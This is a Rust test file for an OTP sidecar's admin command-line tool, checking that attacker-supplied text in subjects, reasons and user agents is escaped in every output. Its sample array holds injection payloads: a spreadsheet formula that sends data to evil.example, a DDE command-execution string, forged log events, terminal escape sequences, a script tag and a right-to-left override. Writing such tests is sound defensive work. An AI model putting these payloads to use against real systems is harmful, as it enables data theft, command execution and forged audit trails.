//! Whatever a subject, a reason or a user agent holds: to every output it is only text.

use assert_cmd::Command;
use serde_json::{Value, json};

use super::{SOON, admin, rig};
use crate::support::{Address, Rig, keys, wait};

/// A formula, a line that looks like an event, colours and a title for the terminal, HTML, Markdown, and text that runs
/// backwards.
const EVIL: [&str; 11] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "\n{\"type\":\"admin.unlock\",\"actor\":\"ops\"}",
    "ann\n{\"type\":\"admin.unlock\"}\n",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;owned\u{7}",
    "<script>alert(1)</script>|`x`",
    "a|b\r\n## Forged heading",
    "[link](http://evil.example)\u{202e}fdp.exe",
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3",
    "\u{301}x\u{9b}31m\u{200b}\u{feff}\u{e0001}",
];

/// What of it may be a subject: one line.
fn subjects() -> [String; EVIL.len()] {
    EVIL.map(|text| text.trim().replace("\r\n", " ").replace('\n', " "))
}

fn run(rig: &Rig, args: &[&str]) -> String {
    let Address::Tcp(address) = rig.sidecar.admin() else { panic!("not TCP") };
    let output = Command::new(env!("CARGO_BIN_EXE_otp-sidecar"))
        .args(args)
        .env_clear()
        .envs([("OTP_ADMIN_URL", &*format!("http://{address}")), ("OTP_ADMIN_KEY", keys::ADMIN_KEY)])
        .output()
        .expect("the binary");
    let text = String::from_utf8([output.stdout, output.stderr].concat()).expect("UTF-8");
    assert!(output.status.success(), "{args:?}: {text}");
    text
}

#[tokio::test]
async fn nothing_that_foreigners_write_does_anything_anywhere() {
    let rig = rig(&[]);
    let all_subjects = subjects();
    for (subject, text) in all_subjects.iter().zip(EVIL) {
        let body = json!({"subject": subject, "tenant": "shop", "minutes": 5, "reason": text});
        admin(&rig.sidecar).post("/admin/v1/lock", &body).await.is(200);
        let body = json!({"subject": subject, "ip": "203.0.113.5", "user_agent": text, "device_id": "d"});
        rig.client.send_body(body).await.refused(429, "subject_locked");
    }
    // And a lockout of each.
    for subject in &all_subjects {
        super::unlock(&rig.sidecar, subject).await.is(200);
        rig.lock_out(subject).await;
    }
    let all = || async {
        let page = admin(&rig.sidecar).get("/admin/v1/events?limit=1000&type=lockout").await.is(200).body;
        (page["events"].as_array()?.len() == EVIL.len()).then_some(())
    };
    wait::until_async("all of it", SOON, all).await;

    let mut outputs = vec![run(&rig, &["locks"]), run(&rig, &["events", "--limit", "1000"]), run(&rig, &["stats"])];
    outputs.push(run(&rig, &["report", "--since", "1h"]));
    for subject in &all_subjects {
        outputs.push(run(&rig, &["inspect", "--tenant", "shop", "--", subject]));
    }
    for output in &outputs {
        let odd =
            |c: char| c.is_control() && c != '\n' || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        assert!(!output.contains(odd), "{output:?}");
        for line in output.lines() {
            assert!(!line.trim_start().starts_with(['=', '+', '@']), "{line}");
            assert!(serde_json::from_str::<Value>(line).is_err(), "a line that looks like an event: {line}");
            assert!(!line.starts_with("## Forged"), "{line}");
        }
    }
    for shown in ["'=HYPERLINK", "\\u{1b}[31mred", "'@SUM", "'-2+3", "\\u{301}x\\u{9b}31m\\u{200b}\\u{feff}"] {
        assert!(outputs[0].contains(shown), "{shown}: {}", outputs[0]);
    }

    // For programs they are JSON strings, and so they are in the trail: each line one event.
    let events: Value = serde_json::from_str(&run(&rig, &["events", "--json", "--limit", "1000"])).expect("JSON");
    let subjects: Vec<_> =
        events["events"].as_array().unwrap().iter().filter_map(|e| e["who"]["subject"].as_str()).collect();
    for subject in &all_subjects {
        assert!(subjects.contains(&subject.as_str()), "{subject:?}");
    }
    for line in rig.sidecar.event_lines() {
        let event: Value = serde_json::from_str(&line).expect("an event");
        assert!(event["bucket"].is_u64() && event["seq"].is_u64(), "{line}");
    }
}
